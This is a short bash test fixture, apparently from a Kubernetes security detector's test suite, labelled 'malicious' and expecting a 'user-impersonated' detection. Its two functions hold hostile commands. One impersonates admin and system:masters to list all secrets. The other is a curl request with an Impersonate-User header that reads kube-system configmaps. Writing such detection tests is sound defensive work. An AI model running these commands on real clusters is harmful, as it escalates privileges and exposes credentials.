# shellcheck shell=bash disable=SC2154
# what: requests are made as somebody else, who may do everything.
# label: malicious
# expects: [user-impersonated]
# allows: [secrets-listed-in-all-namespaces, secrets-read, permissions-enumerated, api-called-by-script]
develop() { intruder --as=admin --as-group=system:masters get secrets -A; }
hold_out() { curl -s --cacert "$work/pki/ca.crt" -H "Authorization: Bearer $(token_of intruder)" -H 'Impersonate-User: system:kube-controller-manager' "$API/api/v1/namespaces/kube-system/configmaps"; }
